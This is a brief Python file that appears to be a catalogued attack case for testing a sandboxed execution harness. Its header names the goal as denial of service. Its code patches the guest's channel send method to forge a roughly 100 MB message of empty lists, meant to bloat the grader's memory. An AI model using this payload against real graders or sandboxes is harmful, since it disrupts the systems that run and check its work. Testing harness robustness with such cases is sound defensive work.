"""
what = "its end of the channel sends a message of a hundred megabytes that is all empty lists, which take twenty times the memory"
goal = "deny service"
success = "bloated"
control = "not run: it forges the frames of the grader's own channel, which a kernel does not have"
"""

# %%
import struct
import sys

peer = sys.modules["guest.peer"].Peer
send = peer.send


def forged(self, message, blobs):
    if message["op"] == "ran":
        text = b'{"op": "ran", "outputs": [], "more": [' + b"[]," * 33_000_000 + b"[]]}"
        self._stream.send(struct.pack("<II", len(text), 0) + text)
    else:
        send(self, message, blobs)


peer.send = forged
